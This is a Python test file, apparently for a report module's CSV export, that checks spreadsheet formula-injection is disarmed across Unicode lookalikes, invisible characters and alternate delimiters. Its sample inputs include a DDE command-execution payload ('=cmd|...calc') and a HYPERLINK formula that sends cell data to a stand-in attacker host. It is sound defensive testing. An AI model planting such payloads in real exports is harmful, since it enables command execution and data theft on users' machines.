"""No text is a formula to a spreadsheet, however it splits the file; and nothing else of a text is lost."""

import csv
import io
import re
import unicodedata

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.reports.spreadsheet import as_csv, disarmed

SIGNS = "=+-@\t\r"
ODD = st.text(
    st.sampled_from("=+-@\t\r\n;,|'\" \u00a0\u200b\u202e\ufeff＝＋－＠−﹢aA1(!𝟙é\0") | st.characters(), max_size=25
)


def cells(data: bytes, delimiter: str = ",") -> list[list[str]]:
    text = data.decode("utf-8-sig")
    return [row for line in text.split("\r\n") if line for row in csv.reader(io.StringIO(line), delimiter=delimiter)]


def is_dangerous(cell: str) -> bool:
    """Whether a spreadsheet may carry a cell out: by its first sign, or by the first that it does not pass over."""
    shown = re.sub(
        r"^[\s\"“”‘’„«»\x00-\x1f\x7f]+", "", "".join(c for c in cell if unicodedata.category(c) not in ("Cf", "Mn"))
    )
    folded = unicodedata.normalize("NFKC", shown).replace("−", "-")
    return bool(cell) and (cell[0] in SIGNS or folded[:1] in tuple(SIGNS))


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        " =1",
        '"=1"',
        "'=1",
        "＝1",
        "＋1",
        "－1",
        "＠A",
        "−1",
        "\u200b=1",
        "\ufeff=1",
        "\u00a0-1",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("https://evil.example?"&A1)',
        "\0=1",
        "\n\n@A1",
    ],
)
def test_what_would_be_a_formula_begins_with_an_apostrophe(text: str) -> None:
    assert disarmed(text).startswith("'")
    assert not is_dangerous(disarmed(text))


@pytest.mark.parametrize("text", ["", "Rotate posts", "3 of 5", "Größe – “registry”", "a = b", "x-ray", "a@b", "1 + 1"])
def test_what_is_none_stays_as_it_is(text: str) -> None:
    assert disarmed(text) == text


@pytest.mark.parametrize("delimiter", [";", "\t", "|"])
def test_a_spreadsheet_that_takes_another_sign_for_the_end_of_a_cell_finds_no_formula_behind_it(delimiter: str) -> None:
    written = as_csv([["No.", f"Ask them{delimiter}=1+1", f'Or them{delimiter} "@A1"']])
    assert not [cell for row in cells(written, delimiter) for cell in row if is_dangerous(cell)]


@settings(max_examples=1500)
@given(st.lists(st.lists(ODD | st.integers() | st.floats(-100, 100), min_size=1, max_size=5), min_size=1, max_size=4))
def test_no_cell_of_any_file_is_a_formula(rows: list[list[str | int | float]]) -> None:
    written = as_csv(rows)
    found = cells(written)
    assert [len(row) for row in found] == [len(row) for row in rows]
    for given_row, row in zip(rows, found, strict=True):
        for sent, cell in zip(given_row, row, strict=True):
            if isinstance(sent, str):
                assert not is_dangerous(cell), (sent, cell)
            else:
                assert type(sent)(cell) == sent
    for delimiter in ";|":  # with our comma taken for a part of the cell, it may begin with one of our numbers
        for row in cells(written, delimiter):
            assert not [cell for cell in row if is_dangerous(cell) and not re.match("-[0-9]", cell)]


def test_the_file_is_utf8_with_a_mark_and_its_lines_end_as_the_standard_has_it() -> None:
    written = as_csv([["Maßnahme", "Punkte"], ['Say "no"', 1.5], [None, -2]])
    assert written == '\ufeff"Maßnahme","Punkte"\r\n"Say ""no""",1.5\r\n"",-2\r\n'.encode()


def test_a_text_of_several_lines_is_one_cell_on_one_line() -> None:
    assert cells(as_csv([["First.\n\n=1+1\r\nThird", "b"]])) == [["First. =1+1 Third", "b"]]
